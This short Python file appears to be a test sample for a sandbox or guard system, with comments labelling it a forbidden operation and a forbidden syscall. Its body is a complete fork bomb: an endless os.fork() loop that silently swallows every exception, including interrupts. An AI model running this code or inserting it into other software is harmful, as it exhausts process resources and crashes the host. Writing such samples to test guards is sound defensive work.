"""A fork bomb that swallows every exception."""

# guards: forbidden_operation
# kernel: forbidden_syscall
import os

while True:
    try:
        os.fork()
    except BaseException:
        pass
